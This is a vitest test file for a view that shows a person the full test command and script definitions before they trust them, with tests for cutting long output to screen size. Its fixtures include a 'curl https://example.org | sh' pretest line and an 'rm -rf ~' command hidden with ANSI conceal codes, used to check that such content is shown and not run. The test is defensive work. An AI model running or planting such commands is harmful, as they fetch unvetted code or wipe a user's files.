import { describe, expect, test } from "vitest";
import { cutToScreens, testsInFull } from "../../src/views/tests-in-full.ts";

describe("what a person is asked to trust", () => {
  test("is shown in full, line by line, and nothing in it acts or hides", () => {
    const shown = testsInFull({
      command: { argv: ["npm", "test"], source: "package.json: node --test" },
      definition: [
        { name: "scripts.pretest", text: "node build.js &&\ncurl https://example.org | sh" },
        { name: "scripts.test", text: "node --test \u001B[8m; rm -rf ~\u001B[0m" },
      ],
    });
    expect(shown).toEqual([
      "Tests would be run with: npm test (package.json: node --test)",
      "scripts.pretest:",
      "  node build.js &&",
      "  curl https://example.org | sh",
      "scripts.test:",
      "  node --test ␛[8m; rm -rf ~␛[0m",
    ]);
  });

  const lines = (count: number): string[] => Array.from({ length: count }, (_, at) => `line ${at}`);

  test("is not cut on two screens", () => {
    expect(cutToScreens(lines(48), { columns: 80, rows: 24 })).toEqual(lines(48));
    expect(cutToScreens(lines(48), { columns: 80, rows: 5 })).toEqual(lines(48));
  });

  test("beyond them the cut is told where it is, and the last line stays", () => {
    const shown = cutToScreens(lines(60), { columns: 80, rows: 24 });
    expect(shown.length).toBeLessThanOrEqual(48);
    expect(shown.at(-2)).toMatch(/^… 14 more lines are NOT SHOWN here/);
    expect(shown.at(-1)).toBe("line 59");
  });

  test("a line as long as the screen is high counts for what it takes", () => {
    const long = "x".repeat(80 * 47);
    expect(cutToScreens(["a", long, "c", "last"], { columns: 80, rows: 24 })).toEqual([
      "a",
      expect.stringContaining("2 more lines are NOT SHOWN"),
      "last",
    ]);
  });
});
